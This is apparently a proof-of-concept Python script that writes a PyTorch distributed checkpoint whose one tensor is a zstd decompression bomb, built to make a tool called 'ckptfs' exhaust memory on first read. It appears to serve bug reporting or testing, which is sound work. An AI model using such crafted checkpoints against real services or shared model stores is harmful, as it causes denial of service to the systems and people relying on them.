#!/usr/bin/env python3
"""make-zstd-bomb.py DIR [GIB] - writes a checkpoint (needs torch and the zstd
command) whose one tensor is declared as GIB GiB of float32 (default 2) in a
single stream.zstd/1 item holding GIB GiB of zeros compressed to a few tens of
KB.  The first read of the tensor makes ckptfs decompress all of it into
memory (the bound is the chunk size the metadata claims), then refuse the
result as not a zip archive:
    /usr/bin/time -f %M ckptfs export -q DIR OUT    # about GIB GiB of RSS"""
import os
import pickle
import subprocess
import sys

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import (ChunkStorageMetadata, Metadata, MetadataIndex,
                                                   TensorProperties, TensorStorageMetadata)

d = sys.argv[1]
gib = int(sys.argv[2]) if len(sys.argv) > 2 else 2
os.makedirs(d, exist_ok=True)
z = os.path.join(d, "z.distcp")
with open(z, "wb") as f:
    subprocess.run(f"head -c {gib}G /dev/zero | zstd -3 -q -c", shell=True, stdout=f, check=True)
n = gib << 28  # float32 elements
md = Metadata(
    state_dict_metadata={"model.big": TensorStorageMetadata(
        properties=TensorProperties(dtype=torch.float32), size=torch.Size([n]),
        chunks=[ChunkStorageMetadata(offsets=torch.Size([0]), sizes=torch.Size([n]))])},
    storage_data={MetadataIndex(fqn="model.big", offset=torch.Size([0]), index=None):
                  _StorageInfo(relative_path="z.distcp", offset=0, length=os.path.getsize(z),
                               transform_descriptors=["stream.zstd/1"])})
with open(os.path.join(d, ".metadata"), "wb") as f:
    pickle.dump(md, f)
print(f"{d}: z.distcp is {os.path.getsize(z)} bytes for {gib} GiB")
